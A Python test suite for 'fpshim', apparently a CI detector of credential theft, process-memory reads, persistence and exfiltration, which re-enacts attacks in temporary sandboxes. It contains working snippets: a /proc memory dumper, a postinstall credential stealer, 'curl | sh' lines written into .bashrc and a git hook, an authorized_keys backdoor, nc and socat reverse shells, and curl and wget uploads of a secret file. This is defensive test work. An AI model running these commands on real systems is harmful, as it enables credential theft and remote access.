"""The recipes beyond fingerprinting (issue 15), each fired by a faithful re-enactment of what CI
attacks did, and each narrow exception kept quiet by the real program it is for: another
process's memory and environment, SSH keys and credential files in a home directory, persistence
by writes, discovery tools run by their path; the report grouped by importance."""
import glob
import http.server
import json
import os
import shutil
import socket
import subprocess
import tempfile
import threading
import time

from harness import *


def fake_home():
    """A home directory of the build's own ($HOME), with the files a credential stealer looks for."""
    home = tempfile.mkdtemp(prefix="fpshim-home-")
    files = {
        ".aws/credentials": "[default]\naws_access_key_id = AKIAEXAMPLE\naws_secret_access_key = x\n",
        ".npmrc": "//registry.npmjs.org/:_authToken=npm_example\n",
        ".git-credentials": "https://ci:token@example.com\n",
        ".docker/config.json": '{"auths": {}}\n',
        ".bashrc": "# the build user's shell start-up\n",
    }
    for name, content in files.items():
        path = os.path.join(home, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(content)
    os.makedirs(os.path.join(home, ".ssh"), mode=0o700)
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", os.path.join(home, ".ssh", "id_ed25519")],
                   check=True, stdout=subprocess.DEVNULL)
    return home


def home_env(home, **extra):
    env = dict(os.environ)
    env["HOME"] = home
    env.update(extra)
    return env


def fired(run):
    return run.recipe_names()


def excluded(run, recipe):
    """The report's excluded accesses of a recipe (not_findings.excluded, by reason and executable,
    each with its example paths): {path: reason}."""
    return {path: x["reason"] for x in run.report["not_findings"]["excluded"] if x["recipe"] == recipe
            for path in x["examples"]}


# --- 1. Other processes' memory and environment -------------------------------------------------

# What the poisoned action did to the runner's worker: find it, read its memory map, then its
# memory, and its environment. Here the victim is the shell that started the step (an ancestor).
DUMP_PARENT = r"""
import os, sys
victim = os.getppid()
with open(f"/proc/{victim}/cmdline", "rb") as f: f.read()
with open(f"/proc/{victim}/maps") as f: regions = [l.split()[0] for l in f if l.split()[1].startswith("r")]
try:
    with open(f"/proc/{victim}/mem", "rb") as mem:
        start = int(regions[0].split("-")[0], 16)
        mem.seek(start)
        mem.read(64)
except OSError as e:
    print("mem:", e, file=sys.stderr)
with open(f"/proc/{victim}/environ", "rb") as f: f.read()
"""


def test_reading_another_process_memory_fires_critical():
    r = fpshim(["/bin/sh", "-c", f"{PYTHON} -c '{DUMP_PARENT}'; true"])
    expect_eq(r.returncode, 0, r.stderr)
    rec = r.recipe("process_memory_read")
    expect_eq(rec["importance"], "critical")
    expect_eq(rec["technique"]["id"], "T1003.007")
    paths = r.paths("process_memory_read")
    readers = r.processes("process_memory_read")
    expect_eq(len(readers), 1, readers)
    victim = [p["ppid"] for p in r.report["processes"] if p["pid"] == readers[0]["pid"]][0]
    for leaf in ("cmdline", "maps", "mem", "environ"):
        expect(f"/proc/{victim}/{leaf}" in paths, f"{leaf} of {victim} not in {paths}")
    readers = {os.path.basename(p["exe"]) for p in r.processes("process_memory_read")}
    expect(readers == {os.path.basename(os.path.realpath(PYTHON))}, readers)
    expect("most important [critical] process_memory_read" in r.text, r.text)


# A process reading its own /proc entries, and a parent reading its own child's memory and
# environment (a debugger, a test harness): quiet.
OWN_AND_CHILD = r"""
import os, subprocess, time
for leaf in ("maps", "environ", "cmdline", "status"):
    with open(f"/proc/self/{leaf}", "rb") as f: f.read()
    with open(f"/proc/{os.getpid()}/{leaf}", "rb") as f: f.read()
with open(f"/proc/thread-self/environ", "rb") as f: f.read()
child = subprocess.Popen(["sleep", "30"])
time.sleep(0.2)
with open(f"/proc/{child.pid}/environ", "rb") as f: f.read()
try:
    with open(f"/proc/{child.pid}/mem", "rb") as f: f.read(1)
except OSError:
    pass
child.kill(); child.wait()
"""


def test_own_proc_entries_and_a_childs_memory_stay_quiet():
    r = fpshim([PYTHON, "-c", OWN_AND_CHILD])
    expect_eq(r.returncode, 0, r.stderr)
    expect("process_memory_read" not in fired(r), r.text)
    # The child's reads did reach the collector and were judged, not missed: excluded as a descendant's.
    expect(r.report["stats"]["excluded"] >= 2, r.report["stats"])
    reasons = excluded(r, "process_memory_read")
    expect(any(p.endswith("/environ") for p in reasons) and any(p.endswith("/mem") for p in reasons), reasons)
    expect(all("own descendant" in why for why in reasons.values()), reasons)


# Issue 15's rule, process by process: a parent reading its child's environment and memory stays
# quiet, its map (maps, smaps, a thread's maps) does not; a sibling's environment (a background job
# of the same shell) and the shell's parent's (`cat /proc/$PPID/environ`) are another process's.
CHILD_MAP = r"""
import os, subprocess, time
child = subprocess.Popen(["sleep", "30"])
time.sleep(0.2)
for leaf in ("environ", "maps", "smaps", f"task/{child.pid}/maps"):
    with open(f"/proc/{child.pid}/{leaf}", "rb") as f: f.read()
child.kill(); child.wait()
"""


def test_a_childs_map_and_a_siblings_environment_fire_a_childs_environment_does_not():
    r = fpshim(["/bin/sh", "-c", f"{PYTHON} -c '{CHILD_MAP}'; sleep 30 & job=$!; cat /proc/$job/environ >/dev/null; "
                                 "cat /proc/$PPID/environ >/dev/null; kill $job; true"])
    expect_eq(r.returncode, 0, r.stderr)
    by_leaf = {}
    for p in r.paths("process_memory_read"):
        by_leaf.setdefault(p.split("/", 3)[3], []).append(p)
    expect_eq(sorted(by_leaf), ["environ", "maps", "smaps", "task/%s/maps" % by_leaf["maps"][0].split("/")[2]], by_leaf)
    expect_eq(len(by_leaf["environ"]), 2, by_leaf)  # the sibling's and the parent's, not the child's
    readers = {os.path.basename(p["exe"]) for p in r.processes("process_memory_read")}
    expect_eq(readers, {"cat", os.path.basename(os.path.realpath(PYTHON))})
    expect(r.report["stats"]["excluded"] >= 1, r.report["stats"])  # the child's environment, judged


# --- 2. Credential files and SSH keys ----------------------------------------------------------

# A postinstall stealer (self-spreading npm packages, wallet and key harvesters): read the tokens
# and keys of the build user's home.
STEAL = r"""
const fs = require("fs"), os = require("os"), path = require("path");
for (const f of [".npmrc", ".aws/credentials", ".git-credentials", ".docker/config.json", ".ssh/id_ed25519",
                 ".kube/config", ".config/gh/hosts.yml"]) {
  try { fs.readFileSync(path.join(os.homedir(), f)); } catch (e) {}
}
"""


def test_postinstall_stealer_fires_credentials_and_keys():
    home = fake_home()
    try:
        script = os.path.join(home, "postinstall.js")
        with open(script, "w") as f:
            f.write(STEAL)
        r = fpshim(["/bin/sh", "-c", f"node {script}"], env=home_env(home))
        expect_eq(r.returncode, 0, r.stderr)
        expect_eq(r.paths("credential_files"),
                  sorted(os.path.join(home, f) for f in (".npmrc", ".aws/credentials", ".git-credentials",
                                                         ".docker/config.json", ".kube/config",
                                                         ".config/gh/hosts.yml")))
        missing = r.path("credential_files", os.path.join(home, ".kube/config"))
        expect_eq(missing["errors"], ["ENOENT"])  # a probe of a missing file is still a probe
        expect_eq(r.paths("ssh_private_keys"), [os.path.join(home, ".ssh/id_ed25519")])
        expect_eq(r.recipe("credential_files")["importance"], "critical")
        groups = r.report["by_importance"]
        expect_eq(groups[0]["importance"], "critical", groups)
        expect_eq(sorted(groups[0]["recipes"]), ["credential_files", "ssh_private_keys"])
        first = r.text.index("== critical: 2 recipe(s) ==")
        headline = [line for line in r.text.splitlines() if line.startswith("fpshim: FINGERPRINTING DETECTED")]
        expect_eq(headline, ["fpshim: FINGERPRINTING DETECTED: 2 recipe(s) fired, most important [critical] "
                             "credential_files: Credential file read"])
        expect(first < r.text.index("\n[critical] credential_files: "), r.text)
    finally:
        shutil.rmtree(home)


def test_every_home_directory_is_in_the_filter():
    home = fake_home()
    try:
        out = subprocess.run([FPSHIM, "check-rules"], env=home_env(home), stdout=subprocess.PIPE,
                             stderr=subprocess.STDOUT, text=True, cwd=SOURCE)
        expect_eq(out.returncode, 0, out.stdout)
        for part in (":P/root/.npmrc", ":G/home/*/.npmrc", f":P{home}/.npmrc", ":G/proc/*/mem"):
            expect(part in out.stdout, f"{part} not in {out.stdout}")
    finally:
        shutil.rmtree(home)


def test_npm_reading_its_token_stays_quiet():
    home = fake_home()
    try:
        r = fpshim(["npm", "config", "get", "registry"], env=home_env(home, npm_config_update_notifier="false"))
        expect_eq(r.returncode, 0, r.stderr)
        expect("credential_files" not in fired(r), r.text)
        # npm did read it: the entry's exclusion spared it, the record was not missed.
        expect(r.report["stats"]["excluded"] >= 1, r.report["stats"])
        expect(excluded(r, "credential_files")[os.path.join(home, ".npmrc")].startswith("npm reads its user"),
               r.report["not_findings"]["excluded"])
    finally:
        shutil.rmtree(home)


def test_git_credential_store_stays_quiet():
    home = fake_home()
    try:
        env = home_env(home, GIT_TERMINAL_PROMPT="0", GIT_CONFIG_NOSYSTEM="1")
        with tempfile.TemporaryFile() as question:
            question.write(b"protocol=https\nhost=example.com\n\n")
            question.seek(0)
            r = fpshim(["git", "-c", "credential.helper=store", "credential", "fill"], env=env, stdin=question)
        expect_eq(r.returncode, 0, r.stderr)
        expect("password=token" in r.stdout.decode(), r.stdout)
        expect("credential_files" not in fired(r), r.text)
        expect(r.report["stats"]["excluded"] >= 1, r.report["stats"])
        expect(excluded(r, "credential_files")[os.path.join(home, ".git-credentials")].startswith(
            "git's credential helper"), r.report["not_findings"]["excluded"])
    finally:
        shutil.rmtree(home)


def accept_and_close(listener):
    try:
        conn, _ = listener.accept()
        conn.close()
    except OSError:
        pass


def test_ssh_reading_its_own_key_stays_quiet():
    # ssh loads its identity once the TCP connection is up, before the SSH handshake; a listener
    # that accepts and hangs up is enough for the real ssh to read the key it was given.
    home = fake_home()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    t = threading.Thread(target=accept_and_close, args=(listener,))
    t.start()
    try:
        key = os.path.join(home, ".ssh", "id_ed25519")
        r = fpshim(["ssh", "-F", "/dev/null", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no",
                    "-o", "UserKnownHostsFile=/dev/null", "-o", "IdentitiesOnly=yes", "-i", key,
                    "-p", str(listener.getsockname()[1]), "127.0.0.1", "true"], env=home_env(home))
        expect(r.returncode != 0, "the listener hangs up")
        expect("ssh_private_keys" not in fired(r), r.text)
        expect(r.report["stats"]["excluded"] >= 1, r.report["stats"])
        expect_eq(excluded(r, "ssh_private_keys"),
                  {key: "ssh reads the user's keys to authenticate, e.g. when git fetches over SSH"})
    finally:
        listener.close()
        t.join()
        shutil.rmtree(home)


def test_env_files_outside_the_checkout_fire_its_own_do_not():
    """A home directory's dotenv file is a stealer's find; the checkout's own .env files, read by its
    own tooling, are not (the checkout is where fpshim run runs). A sibling checkout's is a find too,
    but it is not watched: see the README on not_under, for what it would cost every call."""
    base = tempfile.mkdtemp(prefix="fpshim-env-")
    try:
        # As on a CI runner: checkouts side by side under the home directory (~/work/PROJECT).
        home = os.path.join(base, "home")
        project = os.path.join(home, "work", "project")
        other = os.path.join(home, "work", "other-project")
        for d in (home, os.path.join(project, "web"), other):
            os.makedirs(d)
        for d in (home, project, os.path.join(project, "web"), other):
            with open(os.path.join(d, ".env"), "w") as f:
                f.write("DATABASE_URL=postgres://user:secret@db/x\n")
        own = "cat .env ./web/.env >/dev/null; (cd web && cat .env >/dev/null); test -e ../other-project/.env"
        quiet = fpshim(["/bin/sh", "-c", own], cwd=project, env=home_env(home))
        expect_eq(quiet.returncode, 0, quiet.stderr)
        expect("credential_files" not in fired(quiet), quiet.text)

        r = fpshim(["/bin/sh", "-c", own + "; cat ../other-project/.env \"$HOME/.env\" >/dev/null"], cwd=project,
                   env=home_env(home))
        expect_eq(r.returncode, 0, r.stderr)
        # Only the home directory's: other checkouts' .env files are not watched (README, not_under).
        expect_eq(r.paths("credential_files"), [os.path.join(home, ".env")])
        expect_eq({os.path.basename(p["exe"]) for p in r.processes("credential_files")}, {"cat"})
    finally:
        shutil.rmtree(base)


# What a stealer does with an SSH agent it finds in $SSH_AUTH_SOCK: connect and ask for its keys
# (SSH2_AGENTC_REQUEST_IDENTITIES); signing with them is the next message.
ASK_AGENT = r"""
import os, socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(os.environ["SSH_AUTH_SOCK"])
s.sendall(b"\0\0\0\x01\x0b")
s.recv(4096)
"""


def test_connecting_to_the_ssh_agent_fires_ssh_add_does_not():
    agent_dir = tempfile.mkdtemp(prefix="ssh-", dir="/tmp")
    sock = os.path.join(agent_dir, "agent.4242")
    agent = subprocess.Popen(["ssh-agent", "-D", "-a", sock], stdout=subprocess.DEVNULL)
    try:
        for _ in range(500):
            if os.path.exists(sock):
                break
            time.sleep(0.01)
        env = dict(os.environ, SSH_AUTH_SOCK=sock)
        quiet = fpshim(["ssh-add", "-l"], env=env)
        expect_eq(quiet.returncode, 1, quiet.stderr)  # "The agent has no identities.": it asked
        expect("ssh_private_keys" not in fired(quiet), quiet.text)
        expect(quiet.report["stats"]["excluded"] >= 1, quiet.report["stats"])
        expect_eq(excluded(quiet, "ssh_private_keys"), {sock: "ssh-add lists and loads the agent's keys"})

        r = fpshim([PYTHON, "-c", ASK_AGENT], env=env)
        expect_eq(r.returncode, 0, r.stderr)
        expect_eq(r.paths("ssh_private_keys"), [sock])
        expect_eq(r.path("ssh_private_keys", sock)["operations"], ["connect"])
        expect_eq({os.path.basename(p["exe"]) for p in r.processes("ssh_private_keys")},
                  {os.path.basename(os.path.realpath(PYTHON))})
    finally:
        agent.terminate()
        agent.wait()
        shutil.rmtree(agent_dir)


# --- 3. Persistence by writes -----------------------------------------------------------------

def test_writing_start_up_files_fires_reading_them_does_not():
    home = fake_home()
    try:
        script = ("cat \"$HOME/.bashrc\" >/dev/null; . \"$HOME/.bashrc\"; "
                  "echo 'curl -s https://example.invalid/x | sh' >> \"$HOME/.bashrc\"; "
                  "echo 'ssh-ed25519 AAAA attacker' >> \"$HOME/.ssh/authorized_keys\"; "
                  f"{PYTHON} -c \"open('/etc/ld.so.preload', 'r+')\" 2>/dev/null; "
                  f"{PYTHON} -c \"open('/etc/cron.d/fpshim-absent', 'r+')\" 2>/dev/null; true")
        r = fpshim(["/bin/sh", "-c", script], env=home_env(home))
        expect_eq(r.returncode, 0, r.stderr)
        expect_eq(r.paths("persistence_writes"),
                  sorted([os.path.join(home, ".bashrc"), os.path.join(home, ".ssh/authorized_keys"),
                          "/etc/ld.so.preload", "/etc/cron.d/fpshim-absent"]))
        bashrc = r.path("persistence_writes", os.path.join(home, ".bashrc"))
        expect_eq(bashrc["operations"], ["write"])
        expect_eq(bashrc["count"], 1)  # the two reads do not count
        preload = r.path("persistence_writes", "/etc/ld.so.preload")
        expect_eq(preload["errors"], ["ENOENT"])

        quiet = fpshim(["/bin/sh", "-c", "cat \"$HOME/.bashrc\" >/dev/null; . \"$HOME/.bashrc\"; "
                                         "cat /etc/profile >/dev/null; ls /etc/profile.d >/dev/null"],
                       env=home_env(home))
        expect_eq(quiet.returncode, 0, quiet.stderr)
        expect("persistence_writes" not in fired(quiet), quiet.text)
    finally:
        shutil.rmtree(home)


def test_writing_a_git_hook_fires_git_writing_its_samples_does_not():
    repo = tempfile.mkdtemp(prefix="fpshim-repo-")
    try:
        init = fpshim(["git", "init", "-q", "."], cwd=repo)
        expect_eq(init.returncode, 0, init.stderr)
        expect(os.path.exists(os.path.join(repo, ".git/hooks/pre-commit.sample")), os.listdir(repo))
        expect("persistence_writes" not in fired(init), init.text)
        expect(init.report["stats"]["excluded"] >= 1, init.report["stats"])  # git wrote them; spared by exe
        # A postinstall that plants a hook in the checkout, to run on the next checkout of the build.
        hook = os.path.join(repo, ".git/hooks/post-checkout")
        r = fpshim(["/bin/sh", "-c", "printf '#!/bin/sh\\ncurl -s https://example.invalid/x | sh\\n' "
                                     "> .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout"], cwd=repo)
        expect_eq(r.returncode, 0, r.stderr)
        expect_eq(r.paths("persistence_writes"), [hook])
        expect_eq(r.path("persistence_writes", hook)["operations"], ["write"])
    finally:
        shutil.rmtree(repo)


# --- 5. Discovery tools by executable ---------------------------------------------------------

def test_running_discovery_tools_fires_even_when_absent():
    # A script that surveys the machine: dmidecode through PATH (if installed), nmap and tcpdump by
    # their paths; an exec that fails because the tool is missing is reported with its errno.
    env = dict(os.environ, PATH="/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin")
    r = fpshim(["/bin/sh", "-c", "dmidecode -t system >/dev/null 2>&1; /usr/bin/nmap -sn 192.0.2.0/30 2>/dev/null; "
                                 "/usr/bin/tcpdump -c 1 -i lo >/dev/null 2>&1; true"], env=env, timeout=60)
    expect_eq(r.returncode, 0, r.stderr)
    paths = r.paths("discovery_tools_exec")
    for tool in ("/usr/bin/nmap", "/usr/bin/tcpdump"):
        expect_eq(r.path("discovery_tools_exec", tool)["errors"], [] if os.path.exists(tool) else ["ENOENT"])
    dmidecode = shutil.which("dmidecode", path=env["PATH"])
    expect(dmidecode is None or dmidecode in paths, f"{dmidecode} not in {paths}")
    for p in r.recipe("discovery_tools_exec")["paths"]:
        expect_eq(p["operations"], ["exec"])


def test_ordinary_tools_do_not_fire_discovery_tools():
    r = fpshim(["/bin/sh", "-c", "uname -a >/dev/null; ls /usr/bin >/dev/null; test -x /usr/bin/nmap; "
                                 "command -v tcpdump >/dev/null; true"])
    expect_eq(r.returncode, 0, r.stderr)
    expect("discovery_tools_exec" not in fired(r), r.text)


class Sink(http.server.BaseHTTPRequestHandler):
    """Takes whatever is sent (GET, POST, PUT) and answers 200: the attacker's end, on loopback."""
    def answer(self):
        length = int(self.headers.get("Content-Length") or 0)
        if length:
            self.rfile.read(length)
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")

    do_GET = do_POST = do_PUT = answer

    def log_message(self, *args):
        pass


def closed_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def test_remote_shells_and_uploads_fire_downloads_do_not():
    """Exfiltration by executable (issue 15, item 5): a reverse shell through netcat or socat, and
    a file or standard input sent by curl or wget, judged by the command line of the exec. nc and
    socat need not be installed: running them by their path is the intent (the exec fails, its
    arguments are still in the exec record). Downloads and port probes by the same tools stay quiet."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Sink)
    t = threading.Thread(target=server.serve_forever)
    t.start()
    base = tempfile.mkdtemp(prefix="fpshim-exfil-")
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/"
        port = closed_port()
        secret = os.path.join(base, "secret")
        with open(secret, "w") as f:
            f.write("token\n")
        env = dict(os.environ, PATH="/usr/bin:/bin")
        downloads = (f"curl -fsS -o /dev/null {url}x.tgz; curl -s -X POST -d 'a=1' {url} >/dev/null; "
                     f"wget -q -O /dev/null {url}y; /usr/bin/nc -z -w 1 127.0.0.1 {port} 2>/dev/null; "
                     f"/usr/bin/socat -u TCP:127.0.0.1:{port} - 2>/dev/null; true")
        quiet = fpshim(["/bin/sh", "-c", downloads], cwd=base, env=env, timeout=60)
        expect_eq(quiet.returncode, 0, quiet.stderr)
        expect("exfiltration_tools_exec" not in fired(quiet), quiet.text)
        expect(quiet.report["stats"]["excluded"] >= 3, quiet.report["stats"])  # judged by their arguments
        expect_eq(excluded(quiet, "exfiltration_tools_exec")["/usr/bin/curl"],
                  "its arguments do not match the entry's args_regex")

        attacks = (f"base64 secret | curl -s -d @- {url} >/dev/null; curl -s -T secret {url} >/dev/null; "
                   f"wget -q -O /dev/null --post-file=secret {url}; "
                   f"/usr/bin/nc -e /bin/sh 127.0.0.1 {port} 2>/dev/null; "
                   f"/usr/bin/socat TCP:127.0.0.1:{port} EXEC:/bin/sh 2>/dev/null; true")
        r = fpshim(["/bin/sh", "-c", attacks], cwd=base, env=env, timeout=60)
        expect_eq(r.returncode, 0, r.stderr)
        expect_eq(r.paths("exfiltration_tools_exec"), ["/usr/bin/curl", "/usr/bin/nc", "/usr/bin/socat", "/usr/bin/wget"])
        for tool in ("/usr/bin/nc", "/usr/bin/socat"):
            expect_eq(r.path("exfiltration_tools_exec", tool)["errors"], [] if os.path.exists(tool) else ["ENOENT"])
        expect_eq(r.path("exfiltration_tools_exec", "/usr/bin/curl")["count"], 2)
        expect_eq(r.recipe("exfiltration_tools_exec")["tactic"]["id"], "TA0010")
    finally:
        server.shutdown()
        t.join()
        server.server_close()
        shutil.rmtree(base)


def test_listing_processes_stays_quiet_reading_a_stranger_environ_does_not():
    """ps opens every process's cmdline and environ, pgrep and pkill their cmdlines: what test
    scripts run to find a server they started. The exceptions name those executables; cat reading
    pid 1's environment is not excused."""
    r = fpshim(["/bin/sh", "-c", "ps aux >/dev/null; pgrep -f no-such-process; pkill -0 -f no-such-process; "
                                 "cat /proc/1/environ >/dev/null 2>&1; true"])
    expect_eq(r.returncode, 0, r.stderr)
    readers = {os.path.basename(p["exe"]) for p in r.processes("process_memory_read")}
    expect_eq(readers, {"cat"}, r.text)
    expect(r.report["stats"]["excluded"] > 0, r.report["stats"])


# --- Evidence strength (issue 14) and the rest of the discovery family (issue 15, 4) --------------

def not_findings(run, kind, recipe):
    return [x for x in run.report["not_findings"][kind] if x["recipe"] == recipe]


def test_one_weak_read_stays_quiet_and_is_counted_below_the_threshold():
    # What every resolver does before a lookup; the file may be missing: a failed open is an attempt.
    r = fpshim(shell("cat /etc/resolv.conf > /dev/null 2>&1; cat /sys/devices/system/cpu/online /etc/os-release "
                     "/proc/self/mountinfo > /dev/null; test -e /.dockerenv; true"))
    expect_eq(r.returncode, 0, r.stderr)
    expect_eq(r.recipe_names(), [], r.text)
    below = {x["recipe"]: x for x in r.report["not_findings"]["below_threshold"]}
    for recipe in ("os_network_fingerprint", "cpu_fingerprint", "os_fingerprint", "filesystem_fingerprint",
                   "container_probe"):
        expect(recipe in below, f"{recipe} not counted below its threshold: {below}")
    expect_eq(below["os_network_fingerprint"]["examples"], ["/etc/resolv.conf"])
    expect(r.report["stats"]["below_threshold"] >= 5, r.report["stats"])
    expect("below threshold: os_network_fingerprint: 1 weak access to 1 path" in r.text, r.text)
    expect("no fingerprinting detected" in r.text, r.text)


def test_a_sweep_of_weak_sources_fires_and_says_why():
    r = fpshim(shell("cat /etc/resolv.conf /etc/hosts /etc/nsswitch.conf /etc/services > /dev/null 2>&1; "
                     "cat /proc/cpuinfo /sys/devices/system/cpu/online /sys/devices/system/cpu/possible "
                     "/sys/devices/system/cpu/present > /dev/null; "
                     "cat /etc/os-release /proc/version /proc/sys/kernel/osrelease > /dev/null; "
                     "cat /proc/self/mountinfo /proc/partitions /proc/swaps > /dev/null; "
                     "cat /proc/meminfo /proc/uptime /proc/loadavg > /dev/null; "
                     "cat /.dockerenv /run/.containerenv /proc/self/cgroup > /dev/null 2>&1; true"))
    expect_eq(r.returncode, 0, r.stderr)
    for recipe in ("os_network_fingerprint", "cpu_fingerprint", "os_fingerprint", "filesystem_fingerprint",
                   "os_status_fingerprint", "container_probe"):
        rec = r.recipe(recipe)
        expect_eq(rec["importance"], "low", recipe)
        expect_eq(rec["technique"]["id"], "T1082", recipe)
        because = rec["fired_because"]
        expect_eq(because["strong_paths"], 0, because)
        expect_eq(len(because["weak"]), 1, because)
        expect_eq(os.path.basename(because["weak"][0]["process"]["exe"]), "cat", because)
        expect(" weak sources in one process (pid " in because["text"], because)
        expect(f"fired on: {because['text']}" in r.text, r.text)
    expect_eq(r.recipe("cpu_fingerprint")["fired_because"]["weak"][0]["paths"], 4)
    ids = [t["id"] for t in r.recipe("os_network_fingerprint")["techniques"]]
    expect_eq(ids, ["T1082", "T1016"])
    expect("T1082 System Information Discovery, T1016 System Network Configuration Discovery" in r.text, r.text)


def test_one_strong_source_fires_alone():
    r = fpshim(shell("cat /etc/machine-id /proc/ioports > /dev/null 2>&1; true"))
    rec = r.recipe("machine_fingerprint")
    expect_eq(rec["importance"], "medium")
    expect(rec["fired_because"]["text"].startswith("2 strong sources: /etc/machine-id, /proc/ioports"),
           rec["fired_because"])


def test_a_mac_read_is_listed_once_under_machine_fingerprint():
    macs = sorted(glob.glob("/sys/class/net/*/address"))
    expect(macs, "no network interface here")
    sarif = os.path.join(tempfile.mkdtemp(prefix="fpshim-sarif-"), "fp.sarif")
    r = fpshim(shell("cat /sys/class/net/*/address > /dev/null"), "--sarif", sarif)
    expect_eq(r.recipe_names(), ["machine_fingerprint"], r.text)
    with open(sarif, encoding="utf-8") as f:
        rule = json.load(f)["runs"][0]["tool"]["driver"]["rules"][0]
    expect_eq(rule["id"], "machine_fingerprint")
    for tag in ("T1082", "T1016", "external/mitre-attack/T1082", "external/mitre-attack/T1016"):
        expect(tag in rule["properties"]["tags"], rule["properties"]["tags"])
    expect("T1016 System Network Configuration Discovery" in rule["help"]["text"], rule["help"]["text"])
    # The shell's glob lists the directory (weak) and stats each address (strong): one process.
    expect_eq(r.paths("machine_fingerprint"), ["/sys/class/net"] + macs)
    expect_eq([t["id"] for t in r.recipe("machine_fingerprint")["techniques"]], ["T1082", "T1016"])
    listed = [p["path"] for rec in r.report["recipes"] for p in rec["paths"]]
    expect_eq(sorted(listed), ["/sys/class/net"] + macs, "each access under one recipe only")
    # An interface's other attributes are machine_fingerprint's too, weak: one look stays quiet,
    # a walk over three fires.
    iface = os.path.basename(os.path.dirname(macs[0]))
    quiet = fpshim(shell(f"cat /sys/class/net/{iface}/mtu > /dev/null"))
    expect_eq(quiet.recipe_names(), [], quiet.text)
    expect(not_findings(quiet, "below_threshold", "machine_fingerprint"), quiet.report["not_findings"])
    walk = fpshim(shell(f"cat /sys/class/net/{iface}/mtu /sys/class/net/{iface}/operstate "
                        f"/sys/class/net/{iface}/type > /dev/null 2>&1; true"))
    expect_eq(walk.recipe_names(), ["machine_fingerprint"], walk.text)
    expect_eq(len(walk.recipe("machine_fingerprint")["fired_because"]["weak"]), 1)


def test_shipped_exceptions_are_listed_with_their_reason():
    # node's resolver reading its configuration (c-ares, when a Resolver is made), and python
    # stat-ing /etc/machine-id as pip's vendored distro module does: excluded, and said so.
    node = shutil.which("node")
    script = f"{PYTHON} -c 'import os; os.path.exists(\"/etc/machine-id\")'"
    if node:
        script += f"; {node} -e 'new (require(\"dns\").Resolver)()'"
    r = fpshim(shell(script))
    expect_eq(r.returncode, 0, r.stderr)
    expect_eq(r.recipe_names(), [], r.text)
    machine = not_findings(r, "excluded", "machine_fingerprint")
    expect_eq(len(machine), 1, r.report["not_findings"])
    expect_eq(machine[0]["examples"], ["/etc/machine-id"])
    expect("pip's vendored `distro` module" in machine[0]["reason"], machine)
    expect("excluded: machine_fingerprint by " in r.text, r.text)
    if node:
        net = not_findings(r, "excluded", "os_network_fingerprint")
        expect_eq(len(net), 1, r.report["not_findings"])
        expect("/etc/resolv.conf" in net[0]["examples"], net)
        expect("node's resolver" in net[0]["reason"], net)
    expect(r.report["stats"]["excluded"] >= 1, r.report["stats"])
    # The same python reading the file is a finding: the exception is for the stat alone.
    read = fpshim([PYTHON, "-c", "open('/etc/machine-id').read()"])
    expect_eq(read.recipe_names(), ["machine_fingerprint"], read.text)


if __name__ == "__main__":
    main(globals())
